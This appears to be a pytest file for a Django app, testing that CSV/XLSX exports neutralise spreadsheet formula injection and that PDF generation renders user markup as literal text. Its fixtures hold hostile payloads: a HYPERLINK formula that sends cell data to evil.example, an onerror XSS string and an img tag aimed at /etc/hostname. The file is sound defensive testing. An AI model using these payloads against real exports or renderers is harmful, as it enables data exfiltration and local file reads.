"""Issue 11: formula injection in exports, markup injection in PDFs (exports, pdfs)."""

from __future__ import annotations

import csv
import io
import zipfile
from decimal import Decimal
from typing import Any

import pytest
from django.test import Client
from openpyxl import load_workbook
from reportlab.lib import utils as rl_utils
from reportlab.lib.styles import ParagraphStyle

from ticcoop import exports, pdfs
from ticcoop.certificates.tables import read_tables
from ticcoop.proficiency import services
from ticcoop.proficiency.models import Round, Scheme
from ticcoop.proficiency.report import letter_pdf, round_report_pdf
from ticcoop.proficiency.tests import factories as pf
from ticcoop.testing import factories

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A2,"x")'
PAYLOADS = [
    '<img src="/etc/hostname">',
    '<a href="http://evil.example/">x</a>',
    '"><img src=x onerror=alert(1)>',
]


def test_neutralise_follows_the_owasp_rule() -> None:
    for text in ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"):
        assert exports.neutralise(text) == "'" + text
        assert exports.restore(exports.neutralise(text)) == text
    assert exports.neutralise(-1.5) == -1.5  # a number from the database is not an injection
    assert exports.neutralise(Decimal("-2")) == Decimal("-2")
    assert exports.neutralise("普通文本") == "普通文本"
    assert exports.neutralise(None) == ""
    assert exports.restore("'plain") == "'plain"


@pytest.mark.django_db
def test_registry_export_writes_a_formula_as_text() -> None:
    factories.institution("14", contact_person=HYPERLINK)
    client = Client()
    data = client.get("/certificates/export/?format=csv&kind=institutions").content
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[1][5] == "'" + HYPERLINK
    xlsx = client.get("/certificates/export/?format=xlsx").content
    with zipfile.ZipFile(io.BytesIO(xlsx)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert sheets and not any(b"<f>" in archive.read(n) for n in sheets)
    sheet = load_workbook(io.BytesIO(xlsx)).worksheets[0]
    cell = sheet.cell(row=2, column=6)
    assert cell.data_type == "s" and cell.value == "'" + HYPERLINK
    # Round trip: importing the export gives back the value as it was typed.
    table = read_tables("registry.xlsx", xlsx)[0]
    assert table.rows[0][1]["contact_person"] == HYPERLINK


def test_open_data_csv_keeps_numbers_numeric() -> None:
    data = exports.csv_bytes(["a", "b", "c"], [[-3, "-3", "=x"]])
    assert data.decode().splitlines()[1] == "-3,'-3,'=x"
    xlsx = exports.xlsx_bytes([("s", ["a", "b"], [[-3, "=1+1"]])])
    sheet = load_workbook(io.BytesIO(xlsx)).worksheets[0]
    assert sheet.cell(row=2, column=1).value == -3
    assert sheet.cell(row=2, column=2).value == "'=1+1"


def test_user_text_in_a_paragraph_is_literal() -> None:
    style = ParagraphStyle("t", fontName=pdfs.FONT)
    for payload in PAYLOADS:
        paragraph = pdfs.para(payload, style)
        assert "".join(frag.text for frag in paragraph.frags) == payload


def _spy_reads(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    opened: list[str] = []
    real = rl_utils.open_for_read

    def spy(name: Any, mode: str = "b") -> Any:
        opened.append(str(name))
        return real(name, mode)

    monkeypatch.setattr(rl_utils, "open_for_read", spy)
    return opened


@pytest.mark.django_db
def test_markup_in_a_pt_round_renders_as_text(monkeypatch: pytest.MonkeyPatch) -> None:
    rnd, actor = pf.closed_round()
    payload = " ".join(PAYLOADS)
    Round.objects.filter(pk=rnd.pk).update(title=payload, code="R<b>1</b>")
    Scheme.objects.filter(pk=rnd.scheme_id).update(provider_name=payload, field=PAYLOADS[0])
    rnd.refresh_from_db()
    run = services.evaluate_round(actor, rnd, reason=payload)
    opened = _spy_reads(monkeypatch)
    report = round_report_pdf(run)
    letter = letter_pdf(run, rnd.participants.first())
    for pdf in (report, letter):
        assert pdf.startswith(b"%PDF")
        assert b"/URI" not in pdf and b"evil.example" not in pdf.split(b"stream")[0]
    assert not any("hostname" in name or name == "x" for name in opened)
